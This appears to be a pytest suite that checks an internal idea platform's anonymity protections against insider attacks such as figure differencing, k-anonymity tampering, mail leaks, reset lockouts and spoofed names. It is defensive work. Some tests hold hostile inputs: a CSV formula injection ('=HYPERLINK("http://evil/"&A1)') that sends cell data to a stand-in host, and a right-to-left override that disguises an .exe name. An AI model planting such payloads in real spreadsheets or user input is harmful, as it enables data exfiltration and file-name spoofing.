"""Issue 13: the blind promise against a determined insider.

Each test performs one attack of the issue the way the attacker would (over
HTTP, as that role) and shows that it now learns nothing or is refused.
docs/threat-model.md lists them, channel by channel."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from ideas import clock, context
from ideas.org_settings import set_setting
from ideas.tables import Department, Event, Notification, Participation, User
from tests.factories import ctx_for, idea_payload

UTC = dt.UTC
#: "now" for the leadership figures and the services (2026-Q2)
NOW = dt.datetime(2026, 5, 20, 10, 30, tzinfo=UTC)
EARLIER = "2026-Q1"  # a closed quarter
CURRENT = "2026-Q2"


@pytest.fixture
def frozen():
    clock.set_clock(lambda: NOW)
    yield
    clock.set_clock(None)


async def _took_part(persona, quarter: str = EARLIER) -> None:
    """A ledger row as the services write on a vote or an idea in `quarter`."""
    await Participation.insert(
        Participation(
            user=persona.viewer.id, department=persona.viewer.department_id, quarter=quarter
        )
    ).run()


async def _department(personas, name: str, n: int, prefix: str, settled: int | None = None):
    """`n` staff in department `name`, the first `settled` of them (all by
    default) having taken part in a closed quarter."""
    made = []
    for i in range(n):
        p = await personas.make(f"{prefix}{i}", f"{name} Person {i}", "Staff", name)
        if settled is None or i < settled:
            await _took_part(p)
        made.append(p)
    return made


LEADER_URLS = (
    "/api/v1/metrics",
    "/api/v1/leaderboard",
    "/api/v1/export/leaderboard.csv",
    "/api/v1/export/ideas.csv",
)


async def _snapshot(client, periods=("all", EARLIER, CURRENT)) -> dict:
    """Everything a leader reads that is broken down by people or department."""
    out = {}
    for period in periods:
        for url in LEADER_URLS:
            r = await client.get(url, params={"period": period})
            assert r.status_code == 200, (url, r.text[:200])
            if url == "/api/v1/metrics":
                body = r.json()
                out[(url, period)] = {
                    key: body[key]
                    for key in (
                        "participation",
                        "participation_published",
                        "participation_through",
                        "small_departments_hidden",
                        "k_anonymity",
                    )
                }
            elif url == "/api/v1/export/ideas.csv":
                # a new idea is a new row (it is on the board for all to see
                # anyway): no existing row may change
                out[(url, period)] = set(r.text.splitlines())
            else:
                out[(url, period)] = r.json() if url.endswith("board") else r.text
        page = await client.get("/leaders", params={"period": period})
        assert page.status_code == 200
        # the funnel counts ideas, each of which is on the board for all to
        # see: one more idea is one more there, tied to no department
        text = re.sub(r'<svg[^>]*id="chart-funnel".*?</svg>', "", page.text)
        # likewise the funnel's drill-down links to the board ("Submitted (1)"):
        # their counts are of ideas anyone sees on the board, by status and
        # period only, so they may grow; the links themselves (no department,
        # no person) and every participation/department figure must not change
        funnel = re.compile(r'(data-testid="funnel-links">.*?</p>)', re.S)
        assert funnel.search(text), "the funnel's links are on the page"
        text = funnel.sub(lambda m: re.sub(r"\(\d+\)</a>", "(n)</a>", m.group(1)), text)
        out[("/leaders", period)] = text
    return out


# -- 1. differencing the participation figures -------------------------------------------


async def test_one_new_idea_or_vote_changes_no_figure_a_leader_can_read(personas, frozen):
    """A leader snapshots every figure, one person submits an idea and another
    votes (over HTTP), the cache expires (the suite runs with
    LEADERS_CACHE_SECONDS=0), the leader snapshots again: nothing moved, so
    no department can be pinned on the new idea or the vote."""
    await _department(personas, "Support", 6, "s")
    finance = await _department(personas, "Finance", 6, "f", settled=5)
    carol = await (await personas.get("carol_leader")).browser()
    before = await _snapshot(carol)
    assert before[("/api/v1/metrics", "all")]["participation"], "a figure to difference"
    assert before[("/api/v1/metrics", CURRENT)]["participation_published"] is False
    assert before[("/api/v1/metrics", CURRENT)]["participation"] == []

    # the never-active Finance person's first action of the quarter
    newcomer = finance[5].api()
    idea = await newcomer.post("/api/v1/ideas", json=idea_payload())
    assert idea.status_code == 201, idea.text
    voter = finance[0].api()
    r = await voter.put(f"/api/v1/ideas/{idea.json()['id']}/vote")
    assert r.status_code == 200, r.text
    # and a vote retracted: a closed quarter never moves either
    r = await voter.delete(f"/api/v1/ideas/{idea.json()['id']}/vote")
    assert r.status_code == 200

    after = await _snapshot(carol)
    for key in [k for k in before if k[0] == "/api/v1/export/ideas.csv"]:
        assert before.pop(key) <= after.pop(key)
    assert after == before
    # the ledger did record both, for the quarter to be published once closed
    assert await Participation.count().where(Participation.quarter == CURRENT).run() == 2


async def test_a_closed_quarter_counts_people_where_they_were_when_they_acted(personas, frozen):
    """Moving or deactivating someone afterwards changes no closed quarter's
    participants: an admin cannot difference a quarter by moving a suspect."""
    support = await _department(personas, "Support", 8, "s")
    await _department(personas, "Finance", 6, "f")
    carol = (await personas.get("carol_leader")).api()
    before = (await carol.get("/api/v1/metrics", params={"period": EARLIER})).json()
    adam = await (await personas.get("adam_admin")).browser()
    finance_id = (await Department.select(Department.id).where(Department.name == "Finance"))[0][
        "id"
    ]
    r = await adam.form(
        f"/admin/people/{support[0].id}",
        {"name": support[0].name, "title": "Staff", "department_id": str(finance_id)},
    )
    assert r.status_code == 303, r.text[:300]
    r = await adam.form(f"/admin/people/{support[1].id}/deactivate", {})
    after = (await carol.get("/api/v1/metrics", params={"period": EARLIER})).json()
    took_part = {e["name"]: e["participants"] for e in after["participation"]}
    assert took_part == {e["name"]: e["participants"] for e in before["participation"]}


# -- 2. an admin defeats k-anonymity --------------------------------------------------------


async def test_an_admin_cannot_set_k_under_three(personas, frozen):
    adam = await (await personas.get("adam_admin")).browser()
    for k in ("1", "2"):
        r = await adam.form("/admin/settings", {"k_anonymity": k})
        assert r.status_code == 422
        assert "between 3 and 100" in r.text
    # a value stored before the floor existed is lifted to it
    await User.raw("DELETE FROM setting WHERE key = 'k_anonymity'").run()
    await set_setting("k_anonymity", 3)
    await User.raw("UPDATE setting SET value = '1' WHERE key = 'k_anonymity'").run()
    await _department(personas, "Legal", 2, "l")
    await _department(personas, "Support", 6, "s")
    carol = (await personas.get("carol_leader")).api()
    body = (await carol.get("/api/v1/metrics", params={"period": EARLIER})).json()
    assert body["k_anonymity"] == 3
    assert "Legal" not in {e["name"] for e in body["participation"]}


def test_the_environment_cannot_set_k_under_three():
    from ideas.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="K_ANONYMITY"):
        load_settings({"K_ANONYMITY": "2", "DATABASE_URL": "sqlite:///x.sqlite3"})


async def test_padding_a_new_department_and_moving_one_person_in_shows_nothing(personas, frozen):
    """The admin makes "Skunkworks", adds four accounts that never act, moves
    the suspect in and lowers k to its floor: Skunkworks shows no figure of
    its own, in any period, before or after the suspect acts."""
    await _department(personas, "Support", 6, "s")
    suspect = (await _department(personas, "Finance", 6, "f"))[0]
    adam = await (await personas.get("adam_admin")).browser()
    assert (await adam.form("/admin/departments", {"name": "Skunkworks"})).status_code == 303
    skunk = (await Department.select(Department.id).where(Department.name == "Skunkworks"))[0]["id"]
    for i in range(4):
        r = await adam.form(
            "/admin/people/new",
            {
                "email": f"pad{i}@example.com",
                "name": f"Padding {i}",
                "title": "Staff",
                "department_id": str(skunk),
            },
        )
        assert r.status_code == 303, r.text[:300]
    r = await adam.form(
        f"/admin/people/{suspect.id}",
        {"name": suspect.name, "title": "Staff", "department_id": str(skunk)},
    )
    assert r.status_code == 303
    assert (await adam.form("/admin/settings", {"k_anonymity": "3"})).status_code == 303
    carol = (await personas.get("carol_leader")).api()

    def named(body) -> set[str]:
        return {e["name"] for e in body["participation"]}

    for period in ("all", EARLIER):
        body = (await carol.get("/api/v1/metrics", params={"period": period})).json()
        assert "Skunkworks" not in named(body) and "Other" not in named(body)
    # the suspect votes in the new department: still nothing of its own
    idea = (
        await (await personas.get("alice_support")).api().post("/api/v1/ideas", json=idea_payload())
    )
    suspect_api = suspect.api()
    assert (await suspect_api.put(f"/api/v1/ideas/{idea.json()['id']}/vote")).status_code == 200
    for period in ("all", EARLIER, CURRENT):
        body = (await carol.get("/api/v1/metrics", params={"period": period})).json()
        assert "Skunkworks" not in named(body)
    board = (await carol.get("/api/v1/leaderboard")).json()
    assert "Skunkworks" not in {e["name"] for e in board["by_department"]}
    # moved 30+ days ago and settled people: then (and only then) it may show
    assert (
        await User.count()
        .where(User.department == skunk, User.department_since.is_not_null())
        .run()
    ) == 1


# -- 4. a reveal without the submitter told ----------------------------------------------

REASON = "Legal hold requested by counsel, case 2026-114, see ticket."


async def test_deactivate_reveal_reactivate_cannot_silence_the_notice(personas):
    """The admin deactivates the suspect, reveals, reactivates: the reveal is
    refused after their own deactivation; another admin's reveal of a
    deactivated submitter writes the notice at once (no worker run), every
    other admin is told, and the suspect finds it at their next log-in."""
    alice = await personas.get("alice_support")
    adam = await personas.get("adam_admin")
    ada = await personas.make("ada_admin", "Ada Second", "IT Lead", "IT", ("admin",))
    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload())).json()["id"]
    web = await adam.browser()
    assert (await web.form(f"/admin/people/{alice.id}/deactivate", {})).status_code == 303
    r = await web.form(f"/admin/ideas/{idea}/reveal", {"reason": REASON})
    assert r.status_code == 409 and alice.name not in r.text
    # a second admin reveals while the submitter is deactivated
    ada_web = await ada.browser()
    r = await ada_web.form(f"/admin/ideas/{idea}/reveal", {"reason": REASON})
    assert r.status_code == 200 and alice.name in r.text
    told = await Notification.select().where(Notification.user == alice.viewer.id).run()
    assert [n["kind"] for n in told] == ["identity_revealed"]
    flagged = await Notification.select().where(Notification.user == adam.viewer.id).run()
    assert [n["kind"] for n in flagged] == ["admin_reveal"]
    assert alice.name not in flagged[0]["text"]
    assert (await web.form(f"/admin/people/{alice.id}/reactivate", {})).status_code == 303
    # the worker's delivery of the event adds nothing
    from ideas.notify import fanout

    event = (await Event.select(Event.id).where(Event.kind == "reveal").run())[0]["id"]
    await fanout.deliver_event(event)
    assert await Notification.count().where(Notification.user == alice.viewer.id).run() == 1
    # at the next log-in
    alice_web = await alice.browser()
    inbox = (await alice_web.get("/api/v1/me/notifications")).json()["items"]
    assert [n["kind"] for n in inbox] == ["identity_revealed"]
    assert not inbox[0]["read"]


# -- 6. mail reveals the link ---------------------------------------------------------------


async def test_no_mail_of_a_full_journey_pairs_an_address_with_its_idea(personas, smtp_sink):
    """Submit, question, answer, accept, act, ship, reveal and a weekly digest,
    with every mail through a real SMTP server: whoever reads the mail log
    finds no idea (title or link) in any mail to its submitter or voters."""
    from ideas.notify import digest, mailing
    from tests.notify_helpers import decide, drain, open_session, vote

    alice = await personas.get("alice_support")
    dan = await personas.get("dan_sales")
    erin = await personas.get("erin_it")
    adam = await personas.get("adam_admin")
    title = "Send the renewal quote a month before the contract ends"
    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload(title=title))).json()["id"]
    await vote(dan, idea)
    bob, session = await open_session(personas)
    await decide(bob, idea, session, "needs_info", question="Which customers asked for this?")
    r = await alice.api().post(f"/api/v1/ideas/{idea}/answer", json={"answer": "Public sector."})
    assert r.status_code == 200, r.text
    await decide(bob, idea, session, "accept", owning_department_id=str(bob.viewer.department_id))
    action = await bob.api().post(
        f"/api/v1/ideas/{idea}/actions",
        json={"title": "Schedule the quote job", "owner_id": erin.id, "due_on": "2031-01-01"},
    )
    assert action.status_code == 201, action.text
    for status in ("doing", "done"):
        r = await erin.api().patch(
            f"/api/v1/actions/{action.json()['id']}", json={"status": status}
        )
        assert r.status_code == 200, r.text
    r = await bob.api().post(f"/api/v1/ideas/{idea}/ship", json={"note": "Quotes now go early."})
    assert r.status_code == 200, r.text
    web = await adam.browser()
    assert (await web.form(f"/admin/ideas/{idea}/reveal", {"reason": REASON})).status_code == 200
    await drain()
    # a weekly digest covering it all
    now = clock.now()
    monday = now.date() + dt.timedelta(days=(7 - now.weekday()) % 7 or 7)
    at = dt.datetime.combine(monday, dt.time(9), tzinfo=UTC)
    run = await digest.send_weekly_digest(ctx_for(context.WORKER, now=at))
    for notice_id in run.mail_ids:
        await mailing.email_notice(notice_id)

    import email
    import email.policy

    to_alice = to_dan = 0
    for rcpts, raw in smtp_sink.raw:
        text = raw.decode("utf-8", "replace")
        message = email.message_from_bytes(raw, policy=email.policy.default)
        body = "\n".join(
            part.get_content() for part in message.walk() if part.get_content_maintype() == "text"
        )
        whole = text + body  # headers, the encoded and the decoded bodies
        if rcpts == [alice.email] or rcpts == [dan.email]:
            to_alice += rcpts == [alice.email]
            to_dan += rcpts == [dan.email]
            assert message["Subject"] in (
                "You have an update in Touchpoint",
                "Your week in Touchpoint",
            )
            assert title not in whole and "renewal quote" not in whole
            assert f"/ideas/{idea}" not in whole
            assert "Which customers" not in whole and "your idea" not in whole.lower()
    # the submitter and the voter were mailed about every step: all of it generic
    assert to_alice >= 5 and to_dan >= 1
    # those whose relation to the idea is no secret still get the details
    assert any(rcpts == [erin.email] and title.encode() in raw for rcpts, raw in smtp_sink.raw)


# -- 8. anyone can lock anyone out ----------------------------------------------------------


async def test_reset_requests_never_lock_the_victim_out_nor_void_their_link(
    personas, client, monkeypatch
):
    """Six anonymous /password/forgot requests for the victim's address: the
    victim's correct password still logs in (browser and API), and the first
    reset link in their inbox still works. Failed passwords still count."""
    from ideas import security
    from ideas.config import get_settings
    from ideas.tables import Invitation
    from tests.notify_helpers import clear_outbox, outbox_messages

    rates = get_settings().rate_limits
    monkeypatch.setitem(rates, "login_account", 5)
    alice = await personas.get("alice_support")
    clear_outbox()
    await client.get("/password/forgot")
    csrf = client.cookies.get("tp_csrf")
    codes = []
    for _ in range(6):
        r = await client.post("/password/forgot", data={"email": alice.email, "_csrf_token": csrf})
        codes.append(r.status_code)
    # the sixth is refused by the reset requests' own counter (5 a minute)
    assert codes[:5] == [200] * 5, codes
    links = {
        security.digest(token): token
        for m in outbox_messages()
        if alice.email in m["To"]
        for token in re.findall(r"token=([\w-]+)", m.get_body(("plain",)).get_content())
    }
    assert len(links) == 5
    # the link of the first request, in the victim's inbox
    first_issued = await Invitation.select().order_by(Invitation.id).first().run()
    first = links[first_issued["token_hash"]]
    web = await alice.browser()  # asserts the 303 of a successful log-in
    assert (await web.get("/")).status_code == 200
    token = await client.post(
        "/api/v1/auth/token", json={"email": alice.email, "password": alice.password}
    )
    assert token.status_code == 201
    # the first link still sets a password
    form = await client.get("/password/set", params={"token": first})
    assert form.status_code == 200 and "Set" in form.text
    r = await client.post(
        "/password/set",
        data={
            "token": first,
            "password": "a brand new passphrase",
            "password_again": "a brand new passphrase",
            "_csrf_token": csrf,
        },
    )
    assert r.status_code in (200, 303), r.text[:300]
    # failed password checks still count against the account
    for _ in range(5):
        r = await client.post(
            "/api/v1/auth/token", json={"email": alice.email, "password": "wrong password"}
        )
        assert r.status_code == 401
    r = await client.post(
        "/api/v1/auth/token", json={"email": alice.email, "password": "a brand new passphrase"}
    )
    assert r.status_code == 429


# -- 10. a tracking link in a council question --------------------------------------------

TRACKER = "https://track.example.net/q?id=7"


async def test_a_link_in_a_council_question_is_plain_text_with_a_warning(personas):
    from tests.notify_helpers import decide, drain, open_session, outbox_messages

    alice = await personas.get("alice_support")
    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload())).json()["id"]
    bob, session = await open_session(personas)
    question = f"Could you read {TRACKER} and www.example.org/page first, then say who asked?"
    await decide(bob, idea, session, "needs_info", question=question)
    await drain()
    web = await alice.browser()
    for url in (f"/fragments/ideas/{idea}/question", "/me/notifications", f"/ideas/{idea}"):
        r = await web.get(url)
        assert r.status_code == 200, url
        assert "<a" not in r.text.split("track.example.net")[0].rsplit("\n", 1)[-1], url
        assert f'href="{TRACKER}' not in r.text and 'href="www.example.org' not in r.text
    fragment = (await web.get(f"/fragments/ideas/{idea}/question")).text
    assert "track.example.net/q?id=7" in fragment
    assert 'data-testid="question-link-warning"' in fragment
    inbox = (await web.get("/me/notifications")).text
    assert "contains a web address" in inbox
    # the council sees it as text too
    council = await bob.browser()
    r = await council.get(f"/fragments/ideas/{idea}/question")
    assert f'href="{TRACKER}' not in r.text and "contains a web address" in r.text
    # and no mail carries the question, let alone a link a mail program would make
    assert not any("track.example.net" in m.as_string() for m in outbox_messages())


# -- 12. names that imitate role labels ----------------------------------------------------

ROLE_NAMES = [
    "Submitter",
    "Co-submitter",
    "  submitter ",
    "CX council",
    "cx-Council",
    "C X  COUNCIL",
    "Ѕubmіtter",
]


async def test_no_person_may_be_named_like_a_role_label(personas):
    adam = await (await personas.get("adam_admin")).browser()
    dept = (await Department.select(Department.id).where(Department.name == "IT"))[0]["id"]
    for i, name in enumerate(ROLE_NAMES):
        r = await adam.form(
            "/admin/people/new",
            {"email": f"fake{i}@example.com", "name": name, "department_id": str(dept)},
        )
        assert r.status_code == 422, name
        assert "role label" in r.text
    dan = await personas.get("dan_sales")
    r = await adam.form(
        f"/admin/people/{dan.id}",
        {"name": "Submitter\u200b", "title": "", "department_id": str(dept)},
    )
    assert r.status_code == 422
    assert (await User.select(User.name).where(User.id == dan.viewer.id).first())[
        "name"
    ] == dan.name
    csv_text = "email,name,title,department,roles\nmimic@example.com,CX Council,Staff,IT,\n"
    preview = await adam.form("/admin/import", {"csv_text": csv_text})
    assert "role label" in preview.text
    # the command line goes through the same rule
    from ideas.errors import Invalid
    from ideas.people import service

    with pytest.raises(Invalid, match="role label"):
        service.checked(
            service.PersonIn, email="cli@example.com", name="Sub mitter", department_id=dept
        )
    assert not await User.exists().where(User.email.like("%mimic%")).run()
    # a real name that merely contains a label is fine
    r = await adam.form(
        "/admin/people/new",
        {"email": "ada@example.com", "name": "Ada Submitterson", "department_id": str(dept)},
    )
    assert r.status_code == 303


# -- 14. invisible and bidi-reordered text --------------------------------------------------


async def test_invisible_or_reordered_titles_are_refused_everywhere(personas):
    alice = await personas.get("alice_support")
    api = alice.api()
    invisible = idea_payload(title="\u200b" * 10)
    r = await api.post("/api/v1/ideas", json=invisible)
    assert r.status_code in (400, 422) and "title" in r.text
    r = await api.post(
        "/api/v1/ideas", json=idea_payload(title="ab\u200b\u200c\u200d\u2060\ufeffcd  ")
    )
    assert r.status_code in (400, 422) and "title" in r.text
    for control in ("\u202e", "\u2066", "\u202a"):
        r = await api.post("/api/v1/ideas", json=idea_payload(title=f"Refund {control}gnp.exe now"))
        assert r.status_code == 400 and "bidirectional" in r.text
    web = await alice.browser()
    r = await web.form("/ideas/new", {**idea_payload(), "title": "Refund \u202egnp.exe now"})
    assert r.status_code == 400
    idea = (await api.post("/api/v1/ideas", json=idea_payload())).json()["id"]
    r = await api.post(f"/api/v1/ideas/{idea}/comments", json={"body": "\u200b\u200b\u200b"})
    assert r.status_code in (400, 422) and "body" in r.text
    r = await api.post(f"/api/v1/ideas/{idea}/comments", json={"body": "see \u2067this\u2069"})
    assert r.status_code == 400
    from tests.notify_helpers import open_session

    bob, session = await open_session(personas)
    r = await bob.api().post(
        f"/api/v1/ideas/{idea}/decision",
        json={"session_id": session, "outcome": "needs_info", "question": "Why \u202e?"},
    )
    assert r.status_code == 400
    adam = await (await personas.get("adam_admin")).browser()
    r = await adam.form("/admin/departments", {"name": "\u200b\u200b"})
    assert r.status_code == 422
    from ideas.tables import Comment, Idea

    assert await Idea.count().run() == 1 and await Comment.count().run() == 0


# -- 15. the audit CSV's actor column --------------------------------------------------------


async def test_the_audit_csvs_actor_column_cannot_start_a_formula(personas):
    adam = await personas.get("adam_admin")
    for i, name in enumerate(['=HYPERLINK("http://evil/"&A1)', "+1+1", "-2", "@SUM(A1)", "\tx"]):
        evil = await personas.make(f"evil{i}", name, "IT", "IT", ("admin",))
        r = await (await evil.browser()).form("/admin/departments", {"name": f"Dept {i}"})
        assert r.status_code == 303
    r = await (await adam.browser()).get("/admin/audit.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    actors = [row["actor"] for row in rows if row["action"] == "department.create"]
    assert len(actors) == 5
    for actor in actors:
        assert actor[0] not in "=+-@\t\r", actor


# -- 9. small owning departments: one rule everywhere --------------------------------------


async def test_a_small_owning_department_is_named_alike_on_every_output(personas):
    """The owning department is the team that delivered: a two-person Legal
    team that shipped an idea is named on the idea page, Shipped, the API, the
    ideas CSV and the leaderboard (and its CSV), and counted in full."""
    from tests.notify_helpers import decide, open_session

    await _department(personas, "Legal", 2, "legal")
    alice = await personas.get("alice_support")
    legal = (await Department.select(Department.id).where(Department.name == "Legal"))[0]["id"]
    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload())).json()["id"]
    bob, session = await open_session(personas)
    await decide(bob, idea, session, "accept", owning_department_id=str(legal))
    action = await bob.api().post(
        f"/api/v1/ideas/{idea}/actions",
        json={"title": "Update the contract", "owner_id": bob.id, "due_on": "2031-01-01"},
    )
    assert action.status_code == 201, action.text
    for status in ("doing", "done"):
        r = await bob.api().patch(f"/api/v1/actions/{action.json()['id']}", json={"status": status})
        assert r.status_code == 200, r.text
    r = await bob.api().post(
        f"/api/v1/ideas/{idea}/ship", json={"note": "Contracts now carry the renewal date."}
    )
    assert r.status_code == 200, r.text
    carol = await (await personas.get("carol_leader")).browser()
    api_idea = (await alice.api().get(f"/api/v1/ideas/{idea}")).json()
    assert api_idea["owning_department"]["name"] == "Legal"
    assert "Legal" in (await carol.get(f"/ideas/{idea}")).text
    assert "Legal" in (await carol.get("/shipped")).text
    rows = list(csv.DictReader(io.StringIO((await carol.get("/api/v1/export/ideas.csv")).text)))
    assert [row["owning_department"] for row in rows] == ["Legal"]
    board = (await carol.get("/api/v1/leaderboard")).json()
    assert [(e["name"], e["shipped"]) for e in board["by_owning_department"]] == [("Legal", 1)]
    board_csv = (await carol.get("/api/v1/export/leaderboard.csv")).text
    assert "by_owning_department,1,Legal,1" in board_csv
    assert "Legal" in (await carol.get("/leaders")).text


def test_every_test_named_in_the_threat_model_exists():
    """docs/threat-model.md names the test behind each channel; those of this
    branch must exist (channels closed on other branches are marked so)."""
    import importlib
    from pathlib import Path

    page = (Path(__file__).resolve().parent.parent / "docs" / "threat-model.md").read_text()
    named = set(re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", page))
    assert len(named) >= 14
    missing = []
    for path, name in sorted(named):
        module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
        if not hasattr(module, name):
            missing.append(f"{path}::{name}")
    assert not missing, missing
